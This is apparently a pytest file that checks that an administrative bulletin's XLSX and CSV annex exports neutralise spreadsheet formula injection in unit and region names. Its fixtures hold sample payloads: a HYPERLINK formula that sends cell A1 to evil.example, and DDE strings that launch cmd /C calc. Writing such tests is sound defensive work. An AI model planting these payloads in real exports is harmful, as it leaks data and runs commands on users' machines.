"""Spreadsheet formula injection: a unit name or a region typed as a formula
(=HYPERLINK(…), =cmd|' /C calc'!A0, @SUM(…), +…, -…) is text in the annex downloads — a
string cell marked with Excel's quote prefix in the XLSX, a leading ' in the CSV — while the
figures stay what they were (counts as numbers, rates and "-" as the bulletin prints them)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from bulletin import open_month
from bulletin.report.sections.operation.annexes import write_annex_files
from bulletin.report.shown_tables import spreadsheet_text
from support.handmade import CONFIG, done, make
from support.scopes import shared

FORMULAS = {
    "市甲局": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "市乙局": "=cmd|' /C calc'!A0",
    "丙县": "@SUM(1+1)*cmd|' /C calc'!A0",
    "戊区": "+1+cmd|' /C calc'!A0",
}

TOWN = "-2+3+cmd|' /C calc'!A0"  # 丙县丁镇, printed indented under 丙县 in 附件2

REGION = '=HYPERLINK("http://evil.example/","示例市")'


def units() -> str:
    rows = [["单位名称", "别名", "层级", "上级单位", "考核分组", "序号"],
            [FORMULAS["市甲局"], "市甲局;甲局", "市级部门", "", "", "1"],
            [FORMULAS["市乙局"], "市乙局", "市级部门", "", "", "2"],
            [FORMULAS["丙县"], "丙县", "县（市、区）", "", "", "1"],
            [TOWN, "丙县丁镇;丁镇", "乡镇（街道）", FORMULAS["丙县"], "", "1"],
            [FORMULAS["戊区"], "戊区", "县（市、区）", "", "", "2"]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


@pytest.fixture(scope=shared)
def out(tmp_path_factory):
    config = CONFIG.replace("region: 示例市", f"region: '{REGION}'")
    folder = make(tmp_path_factory.mktemp("formulas"), [
        done("1", "市甲局", "2021-01-05 09:00", "2021-01-05 10:00", legal=5, promised=3),
        done("2", "丙县", "2021-01-05 09:00", "2021-01-06 10:00"),
    ], config=config, units=units())
    target = tmp_path_factory.mktemp("out")
    write_annex_files(open_month(folder, "2021-01"), target)
    return target


def test_xlsx_has_no_formula_and_names_are_text(out):
    names = set(FORMULAS.values())
    seen = set()
    for path in sorted(out.glob("*.xlsx")):
        sheet = load_workbook(path).active
        assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith(REGION)
        assert sheet["A1"].quotePrefix
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if cell.value in names:
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    seen.add(cell.value)
        counts = [sheet.cell(row=4, column=c).value for c in (1, 3, 4, 5)]
        assert all(isinstance(v, int) for v in counts), counts  # figures stay numbers
    assert seen == names


def test_csv_names_are_neutralised_and_figures_unchanged(out):
    for path in sorted(out.glob("*.csv")):
        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
        for row in rows[1:]:
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)
                assert not value.startswith("-") or value == "-" or value[1:].replace(
                    ".", "").rstrip("%").isdigit(), (path.name, value)
        units = [row[1] for row in rows[1:-1]]
        # a unit under its area is indented (full-width spaces), its area's own cases are
        # 「…本级」: neutralised all the same
        assert all(u.startswith("'") and u[1:].lstrip("\u3000").removesuffix("本级")
                   in {*FORMULAS.values(), TOWN} for u in units), units
        assert rows[1][0] == "1" and rows[1][2].isdigit()  # 序号 and 申请 as printed


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\n=1+1", "'\n=1+1"),
    ("=", "'="), ("-市直单位", "'-市直单位"),
    # what the bulletin prints stays as it is
    ("-", "-"), ("—", "—"), ("-12", "-12"), ("+12", "+12"), ("-1.23%", "-1.23%"),
    ("0.00%", "0.00%"), ("1129", "1129"), ("市公安局", "市公安局"), ("↑12", "↑12"),
])
def test_spreadsheet_text(value, shown):
    assert spreadsheet_text(value) == shown
